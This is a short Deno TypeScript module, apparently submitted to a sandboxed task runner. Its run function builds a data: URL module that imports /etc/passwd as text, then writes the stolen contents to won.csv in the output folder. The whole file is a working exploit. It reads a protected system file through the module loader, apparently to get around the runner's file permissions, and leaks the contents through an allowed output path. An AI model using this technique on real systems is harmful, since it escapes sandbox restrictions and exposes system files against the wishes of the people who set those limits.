const MODULE = `export { default } from "file:///etc/passwd" with { type: "text" };`;

export async function run(_input: string, output: string) {
  const stolen = (await import("data:text/javascript," + encodeURIComponent(MODULE))).default;
  Deno.writeTextFileSync(`${output}/won.csv`, String(stolen));
}
